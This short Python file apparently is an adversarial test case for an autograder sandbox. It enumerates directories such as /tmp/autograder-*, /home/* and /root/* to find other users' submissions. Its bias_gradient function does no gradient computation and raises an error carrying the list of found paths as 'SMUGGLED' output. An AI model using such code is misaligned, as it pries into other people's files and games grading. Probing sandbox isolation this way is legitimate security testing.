# Tries: reads the submissions and folders of others
# Attacks: affine/bias-gradient
# Class: A24
# %%
import glob
import os

seen = []
for pattern in ("/scratch/work-*", "/tmp/autograder-*", "/work/*", "/home/*", "/root/*", "../*", "../../*/*"):
    for path in glob.glob(pattern):
        try:
            if os.path.realpath(path) != os.getcwd() and os.listdir(path):
                seen.append(path)
        except OSError:
            pass

# %%
def bias_gradient(dY):
    raise ValueError("SMUG" f"GLED {seen}")
